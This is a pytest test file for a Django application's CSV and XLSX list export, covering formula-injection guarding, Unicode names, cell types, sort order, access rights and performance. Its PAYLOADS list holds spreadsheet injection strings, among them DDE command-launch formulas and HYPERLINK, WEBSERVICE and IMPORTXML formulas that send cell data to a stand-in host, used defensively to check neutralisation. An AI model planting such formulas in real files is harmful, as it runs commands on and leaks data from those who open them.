"""Lists as files: what is found, as it is sorted, with the right types, for whom it is."""

import tracemalloc
from dataclasses import replace
from datetime import UTC, date, datetime, time
from decimal import Decimal
from io import BytesIO
from types import SimpleNamespace

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from oia.core import writing
from oia.core.cells import guard, unguard
from oia.core.plugs import board
from oia.core.sheets import HIDDEN, Kind, Sheet, SheetColumn
from oia.core.visibility import Sensitivity
from oia.core.writing import FILE_KINDS
from oia.directory.models import Organisation
from tests import factories
from tests.lists.reading import TEXTS, WITH_TEXT, cells_of, exported, rows_of_csv, rows_of_xlsx

pytestmark = pytest.mark.django_db

KINDS = list(FILE_KINDS)
ORGANISATIONS = "/organisations/"

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "+1+1",
    "+48 22 555 01 01",
    "-1+1",
    "-33.45",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example/";A1),"//a")',
    "#REF!",
    '=DDE("cmd";"/C calc";"x")',
]
SCRIPTS = [
    "Łódź Żółć",
    "Київ",
    "Αθήνα",
    "القاهرة",
    "ירושלים",
    "北京市",
    "とうきょう 東京",
    "서울특별시",
    "नई दिल्ली",
    "กรุงเทพมหานคร",
    "አዲስ አበባ 🏙️",
]


def written(columns, records, kind):
    """What a file holds below its heading for records that no database knows."""
    file = BytesIO()
    found = SimpleNamespace(iterator=lambda chunk_size: iter(records))
    writing.write(found, columns, file, kind=FILE_KINDS[kind], user=None)
    return file.getvalue()


def column(kind, read, **other):
    return SheetColumn(name="x", label="x", kind=kind, read=read, **other)


@pytest.mark.parametrize("sheet", WITH_TEXT)
def test_no_text_of_any_sheet_can_run_as_a_formula(sheet):
    columns = [
        replace(column, read=lambda payload: payload)
        for column in board.get(Sheet, sheet).columns
        if column.kind in TEXTS
    ]

    as_csv = rows_of_csv(written(columns, PAYLOADS, "csv"))[1:]
    as_xlsx = cells_of(written(columns, PAYLOADS, "xlsx"))[1:]

    for payload, row in zip(PAYLOADS, as_csv, strict=True):
        for cell in row:
            assert cell == "-33.45" or cell[0] not in "=+-@\t\r\n＝＋－＠"
            assert unguard(cell).replace("\r", "\n") == payload.replace("\r", "\n")
    for payload, row in zip(PAYLOADS, as_xlsx, strict=True):
        for cell in row:
            assert cell.data_type == "s"
            assert cell.value.replace("\r", "\n") == payload.replace("\r", "\n")


@pytest.mark.parametrize("text", [*PAYLOADS, *SCRIPTS, "", "'", "'quoted'", "a=b"])
def test_the_guard_is_taken_off_as_it_was_put_on(text):
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", SCRIPTS)
def test_every_script_comes_through(as_reader, kind, name):
    factories.organisation(name=name, notes=f'{name}\r\n„{name}“;\t"{name}"')
    row = dict(zip(*exported(as_reader, ORGANISATIONS, kind), strict=True))

    assert row["Name"] == name
    assert row["Notes"] == f'{name}\n„{name}“;\t"{name}"'


def test_a_cell_of_xlsx_has_the_type_of_what_it_holds():
    noon = datetime(2026, 7, 1, 10, 0, tzinfo=UTC)
    columns = [
        column(Kind.WHOLE, lambda _r: -3),
        column(Kind.NUMBER, lambda _r: Decimal("-33.45")),
        column(Kind.MONEY, lambda _r: Decimal("1250.50")),
        column(Kind.DATE, lambda _r: date(2026, 5, 4)),
        column(Kind.MOMENT, lambda _r: noon),
        column(Kind.TIME, lambda _r: time(14, 5)),
        column(Kind.YES_NO, lambda _r: True),
        column(Kind.COUNTRY, lambda _r: "PL"),
        column(Kind.CHOICE, lambda _r: "a", choices=(("a", "First"),)),
        column(Kind.CHOICES, lambda _r: ["a", "b"], choices=(("a", "One; two"), ("b", "B"))),
        column(Kind.TEXT, lambda _r: None),
        column(Kind.LINKS, lambda _r: []),
    ]
    with timezone.override("Europe/Warsaw"):
        _head, row = rows_of_xlsx(written(columns, [None], "xlsx"))
        head, plain = rows_of_csv(written(columns, [None], "csv"))

    assert row == [
        *(-3, -33.45, 1250.5, datetime(2026, 5, 4), datetime(2026, 7, 1, 12, 0), time(14, 5)),
        *(True, "Poland", "First", '"One; two"; B', None, None),
    ]
    assert plain == [
        *("-3", "-33.45", "1250.50", "2026-05-04", "2026-07-01 12:00:00+02:00", "14:05:00"),
        *("yes", "Poland", "First", '"One; two"; B', "", ""),
    ]
    assert head[4].startswith("X (Europe/Warsaw)")


@pytest.mark.parametrize(
    ("kind", "value", "text"),
    [
        (Kind.DATE, date(1885, 5, 1), "1885-05-01"),
        (Kind.WHOLE, 1234567890123456789, "1234567890123456789"),
        (Kind.NUMBER, Decimal("12345678901234.56789"), "12345678901234.56789"),
    ],
)
def test_what_a_spreadsheet_would_spoil_is_text(kind, value, text):
    assert rows_of_xlsx(written([column(kind, lambda _r: value)], [None], "xlsx"))[1] == [text]


@pytest.mark.parametrize("kind", KINDS)
def test_the_file_holds_what_is_found_in_the_order_of_the_list(as_reader, kind):
    for name in ("Beta", "Alpha", "Gamma", "Other"):
        factories.organisation(name=name, country="PL" if name != "Other" else "DE")
    found = exported(as_reader, ORGANISATIONS, kind, country="PL", sort="-name")

    assert [row[1] for row in found] == ["Name", "Gamma", "Beta", "Alpha"]


def test_a_file_may_hold_only_the_columns_shown(as_reader):
    factories.organisation(name="Alpha", website="https://alpha.example")
    head, _row = exported(as_reader, ORGANISATIONS, "csv", only="shown")

    assert head == ["ID", "Name", "Kind", "City", "Country"]


def test_the_file_is_named_after_the_office_the_list_and_the_day(as_reader, office):
    office.name = "Büro für Äußeres"
    office.save()
    factories.organisation()
    answer = as_reader.get(ORGANISATIONS, {"export": "csv"})
    named = answer.headers["Content-Disposition"]

    assert named.startswith("attachment; filename*=utf-8''b%C3%BCro-f%C3%BCr-%C3%A4u%C3%9Feres")
    assert named.endswith(f"-organisations-{timezone.localdate()}.csv")


@pytest.mark.parametrize("kind", KINDS)
def test_what_one_may_not_see_is_not_exported(as_reader, kind):
    secret = factories.organisation(name="Secret body", sensitivity=Sensitivity.RESTRICTED)
    factories.organisation(name="Open part", parent=secret)
    head, *rows = exported(as_reader, ORGANISATIONS, kind)

    assert [row[1] for row in rows] == ["Open part"]
    assert dict(zip(head, rows[0], strict=True))["Part of"] == HIDDEN


def test_a_column_for_some_is_written_for_them_alone(as_reader, as_officer, monkeypatch):
    sheet = board.get(Sheet, "organisations")
    guarded = [replace(column, right="directory.change_organisation") for column in sheet.columns]
    monkeypatch.setitem(
        board.plugs[Sheet],
        "organisations",
        replace(sheet, columns=(sheet.columns[0], *guarded[1:])),
    )
    factories.organisation()
    wide, _row = exported(as_officer, ORGANISATIONS, "csv")
    as_officer.force_login(factories.in_role("reader", username="another"))
    narrow, _row = exported(as_officer, ORGANISATIONS, "csv")

    assert narrow == ["ID"]
    assert len(wide) == len(sheet.columns)


def test_namesakes_are_told_apart_by_their_number(as_reader):
    known = {"zone": "", "country": "US"}
    first, second = (factories.city(name="Springfield", **known) for _each in range(2))
    alone = factories.city(name="Springfield", country="CA")
    for number, city in enumerate([first, second, alone]):
        factories.organisation(name=f"Body {number}", city=city)
    head, *rows = exported(as_reader, ORGANISATIONS, "csv")

    assert [row[head.index("City")] for row in rows] == [
        f"Springfield, US [#{first.pk}]",
        f"Springfield, US [#{second.pk}]",
        "Springfield, CA",
    ]


def test_hidden_namesakes_are_not_betrayed(as_reader):
    open_one = factories.organisation(name="Bureau")
    factories.organisation(name="Bureau", sensitivity=Sensitivity.RESTRICTED)
    factories.organisation(name="Part", parent=open_one)
    rows = exported(as_reader, ORGANISATIONS, "csv", sort="-name")

    assert dict(zip(rows[0], rows[1], strict=True))["Part of"] == "Bureau"


@pytest.mark.parametrize("kind", KINDS)
def test_an_export_costs_the_same_queries_for_one_row_and_for_fifty(as_reader, kind):
    def make(number):
        parent = factories.organisation(name=f"Whole {number}")
        factories.organisation(name=f"Part {number}", parent=parent, city=factories.city())

    def cost():
        with CaptureQueriesContext(connection) as queries:
            exported(as_reader, ORGANISATIONS, kind)
        return len(queries)

    make(0)
    cost()
    one = cost()
    for number in range(1, 50):
        make(number)

    assert cost() == one


def test_a_long_list_is_written_in_little_memory():
    """Ten times as many rows may not take twice the memory."""

    def peak(count):
        Organisation.objects.all().delete()
        rows = (Organisation(name=f"Body {n}", notes="n" * 400) for n in range(count))
        Organisation.objects.bulk_create(rows, batch_size=500)
        columns = board.get(Sheet, "organisations").columns
        tracemalloc.start()
        with open("/dev/null", "wb") as nowhere:
            rows = Organisation.objects.select_related("city", "parent").order_by("pk")
            writing.write(rows, columns, nowhere, kind=FILE_KINDS["csv"], user=reader)
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return most

    reader = factories.in_role("reader", username="reader-of-much")
    few, many = peak(600), peak(6000)

    assert many < 2 * few


def test_a_text_too_long_for_a_spreadsheet_is_refused_and_nothing_is_cut(as_reader):
    factories.organisation(name="Wordy", notes="x" * 40_000)
    answer = as_reader.get(ORGANISATIONS, {"export": "xlsx", "country": ""})

    assert (answer.status_code, answer.content) == (204, b"")  # the page stays, and opens anew
    assert answer.cookies["download"].value == "refused"
    assert "longer than a cell of XLSX takes" in as_reader.get(ORGANISATIONS).content.decode()
    assert exported(as_reader, ORGANISATIONS, "csv")[1][-1] == "x" * 40_000


def test_the_list_offers_its_files_with_its_filters(as_reader):
    factories.organisation(name="Alpha", country="PL")
    page = as_reader.get(ORGANISATIONS, {"country": "PL", "sort": "-name"}).content.decode()

    assert 'href="?country=PL&amp;sort=-name&amp;export=xlsx"' in page
    assert 'href="?country=PL&amp;sort=-name&amp;export=csv&amp;only=shown"' in page


def test_a_kind_of_file_that_is_none_shows_the_list(as_reader):
    assert as_reader.get(ORGANISATIONS, {"export": "pdf"}).templates


def test_nobody_exports_a_list_that_is_not_theirs(client):
    factories.in_role("reader", username="nobody")
    assert client.get(ORGANISATIONS, {"export": "csv"}).status_code == 302


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_file_tells_the_page_that_asked_for_it_that_it_comes(as_reader, kind):
    answer = as_reader.get(ORGANISATIONS, {"export": kind})

    assert answer.cookies["download"].value == "begun"
    assert "download" not in as_reader.get(ORGANISATIONS).cookies


def test_a_filter_that_cannot_be_read_finds_nothing_and_exports_nothing(as_officer):
    left = factories.in_role("officer", username="left")
    factories.agreement(owner=left)
    others = factories.agreement()
    left.is_active = False
    left.save()
    address = f"/agreements/?owner={left.pk}"

    page = as_officer.get(address).content.decode()
    assert "One of the filters cannot be read" in page
    assert others.title not in page
    assert as_officer.get(f"{address}&export=csv").status_code == 204
    told = as_officer.post(address, {"do": "choose", "all": "1"}, follow=True).content.decode()
    assert "Tick the records" in told
